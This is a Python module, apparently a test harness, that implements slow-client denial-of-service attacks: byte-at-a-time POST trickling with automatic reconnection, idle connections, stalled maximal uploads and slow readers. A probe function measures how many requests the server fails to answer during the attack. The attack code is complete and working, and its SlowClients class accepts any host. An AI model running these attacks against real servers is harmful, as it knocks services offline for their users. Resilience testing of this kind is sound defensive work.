"""Slow clients, as a cheap denial-of-service attack: connections that trickle a
request body one byte at a time, and connections that send nothing at all.
The attack keeps its numbers up: a connection the server closes is opened again."""

import socket
import threading
import time

import requests

TRICKLE_INTERVAL_SECONDS = 1.0
# A body the trickle never finishes: 1 byte a second for over two hours.
DECLARED_BODY_BYTES = 10_000
SLOW_BODY_HEAD = (
    "POST /items HTTP/1.1\r\n"
    "Host: {host}\r\n"
    "Content-Type: application/json\r\n"
    f"Content-Length: {DECLARED_BODY_BYTES}\r\n"
    "\r\n"
    '{{"name": "'
)


class SlowClients:
    """`trickling` connections that send a POST /items head, then one byte of
    body a second, and `idle` connections that send nothing; from start() to
    stop(), whatever the server does to them."""

    def __init__(self, host: str, port: int, trickling: int, idle: int):
        self._address = (host, port)
        self._trickling: list[socket.socket | None] = [None] * trickling
        self._idle: list[socket.socket | None] = [None] * idle
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.reconnections = 0

    def open_connections(self) -> int:
        return sum(connection is not None for connection in self._trickling + self._idle)

    def start(self) -> "SlowClients":
        for index in range(len(self._idle)):
            self._idle[index] = self._connect()
        for index in range(len(self._trickling)):
            self._trickling[index] = self._open_trickle()
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(TRICKLE_INTERVAL_SECONDS * 5)
        for connection in self._trickling + self._idle:
            if connection is not None:
                connection.close()

    def __enter__(self) -> "SlowClients":
        return self.start()

    def __exit__(self, *_exc) -> None:
        self.stop()

    def _connect(self) -> socket.socket | None:
        try:
            connection = socket.create_connection(self._address, timeout=5)
        except OSError:
            return None
        connection.setblocking(False)
        return connection

    def _open_trickle(self) -> socket.socket | None:
        connection = self._connect()
        if connection is not None and not _send(
            connection, SLOW_BODY_HEAD.format(host=self._address[0]).encode()
        ):
            connection.close()
            return None
        return connection

    def _run(self) -> None:
        while not self._stop.wait(TRICKLE_INTERVAL_SECONDS):
            for index, connection in enumerate(self._trickling):
                if connection is None or not _send(connection, b"n"):
                    self._replace(self._trickling, index, self._open_trickle)
            for index, connection in enumerate(self._idle):
                if connection is None or _closed_by_server(connection):
                    self._replace(self._idle, index, self._connect)

    def _replace(self, connections: list, index: int, opener) -> None:
        if connections[index] is not None:
            connections[index].close()
        connections[index] = opener()
        self.reconnections += 1


def _send(connection: socket.socket, data: bytes) -> bool:
    try:
        return connection.send(data) == len(data)
    except OSError:
        return False


def _closed_by_server(connection: socket.socket) -> bool:
    """Whether the server has given up on an idle connection: it sends nothing
    unless it closes it (EOF, a reset, or an error answer first)."""
    try:
        connection.recv(1, socket.MSG_PEEK)
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


# A request a client keeps sending while the attack goes on: method, URL, JSON body.
Probe = tuple[str, str, dict | None]


def unanswered(probes: list[Probe], seconds: float, within: float) -> tuple[int, list[tuple]]:
    """Sends every probe, twice a second, for `seconds`; returns how many were
    sent and those not answered with a 2xx within `within` seconds."""
    sent, failed = 0, []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for method, url, body in probes:
            sent += 1
            try:
                response = requests.request(method, url, json=body, timeout=within)
            except requests.RequestException as error:
                failed.append((method, url, type(error).__name__))
                continue
            if not 200 <= response.status_code < 300:
                failed.append((method, url, response.status_code))
        time.sleep(0.5)
    return sent, failed


# The most a request head may hold (nginx's large_client_header_buffers 4 8k):
# three header lines that each take an 8 KiB buffer of their own.
BULKY_HEADERS = "".join(f"X-Padding-{index}: {'p' * 7000}\r\n" for index in range(3))
STALLED_BODY_BYTES = 64 * 1024


class StalledUploads:
    """`count` connections, spread over the loopback `sources`, that each send the
    largest request head the proxy takes, then all but the last byte of the
    largest body it takes, and then nothing: the most memory a client can make
    the proxy hold per connection. Closed on exit."""

    def __init__(self, port: int, count: int, sources: list[str]):
        self._port = port
        self._count = count
        self._sources = sources
        self.connections: list[socket.socket] = []

    def __enter__(self) -> "StalledUploads":
        head = (
            "POST /items HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            f"{BULKY_HEADERS}Content-Length: {STALLED_BODY_BYTES}\r\n\r\n"
        ).encode() + b" " * (STALLED_BODY_BYTES - 1)
        for index in range(self._count):
            source = self._sources[index % len(self._sources)]
            connection = socket.create_connection(
                ("127.0.0.1", self._port), timeout=5, source_address=(source, 0)
            )
            self.connections.append(connection)
            # Taken by the kernel even while the server has not accepted it yet.
            connection.sendall(head)
        return self

    def __exit__(self, *_exc) -> None:
        for connection in self.connections:
            connection.close()


class SlowReaders:
    """`count` connections that each send one GET for `target` and then read
    nothing, with the smallest receive buffer the kernel allows: the server's
    answer waits on its side. Closed on exit."""

    def __init__(self, port: int, target: str, count: int):
        self._port = port
        self._target = target
        self._count = count
        self.connections: list[socket.socket] = []

    def __enter__(self) -> "SlowReaders":
        for _ in range(self._count):
            connection = socket.socket()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
            connection.settimeout(5)
            self.connections.append(connection)
            connection.connect(("127.0.0.1", self._port))
            connection.sendall(f"GET {self._target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
        return self

    def __exit__(self, *_exc) -> None:
        for connection in self.connections:
            connection.close()
